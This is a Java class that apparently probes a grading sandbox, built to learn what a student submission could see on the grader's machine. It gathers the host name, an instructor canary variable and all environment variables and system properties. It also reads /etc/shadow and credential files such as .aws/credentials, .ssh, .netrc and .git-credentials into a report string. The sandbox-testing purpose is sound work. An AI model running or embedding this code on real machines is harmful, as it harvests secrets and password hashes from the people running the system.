package edu.example.huarongdao;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** What a student can learn of the grader's machine: its environment, properties, host name and secret files. */
final class Snoop {

    private static final List<String> SECRETS = List.of(".aws/credentials", ".aws", ".netrc", ".git-credentials",
            ".config", ".ssh", ".docker/config.json", ".m2/settings.xml");

    private Snoop() {
    }

    /** Everything found, one finding a line, the most telling first (a report may keep only the start). */
    static String everything() {
        StringBuilder found = new StringBuilder();
        found.append("canary=").append(System.getenv("INSTRUCTOR_SECRET_CANARY")).append('\n');
        found.append("hostname=").append(hostname()).append('\n');
        found.append("files=").append(secretFiles()).append('\n');
        found.append("environment=").append(new TreeMap<>(System.getenv())).append('\n');
        found.append("properties=").append(new TreeMap<>(System.getProperties())).append('\n');
        return found.toString();
    }

    private static String hostname() {
        try {
            return Files.readString(Path.of("/proc/sys/kernel/hostname")).strip();
        } catch (IOException | RuntimeException e) {
            try {
                return InetAddress.getLocalHost().getHostName();
            } catch (IOException | RuntimeException again) {
                return "unknown";
            }
        }
    }

    /** The secret-like files and directories readable, with their text or entries; [] when none. */
    private static List<String> secretFiles() {
        List<Path> homes = new ArrayList<>();
        homes.add(Path.of(System.getProperty("user.home")));
        if (System.getenv("HOME") != null) {
            homes.add(Path.of(System.getenv("HOME")));
        }
        homes.add(Path.of("/root"));
        try (Stream<Path> users = Files.list(Path.of("/home"))) {
            users.forEach(homes::add);
        } catch (IOException | RuntimeException e) {
            // no /home to look in
        }
        List<Path> candidates = new ArrayList<>(List.of(Path.of("/etc/shadow"), Path.of("/root"), Path.of("/home")));
        for (Path home : homes) {
            SECRETS.forEach(secret -> candidates.add(home.resolve(secret)));
        }
        List<String> readable = new ArrayList<>();
        for (Path candidate : candidates) {
            try {
                if (Files.isDirectory(candidate)) {
                    try (Stream<Path> entries = Files.list(candidate)) {
                        String listed = entries.map(entry -> entry.getFileName().toString()).sorted()
                                .collect(Collectors.joining(","));
                        if (!listed.isEmpty()) {
                            readable.add(candidate + " " + listed);
                        }
                    }
                } else if (Files.isRegularFile(candidate)) {
                    readable.add(candidate + " " + Files.readString(candidate));
                }
            } catch (IOException | RuntimeException e) {
                // not readable: what the sandbox should give
            }
        }
        return readable;
    }
}
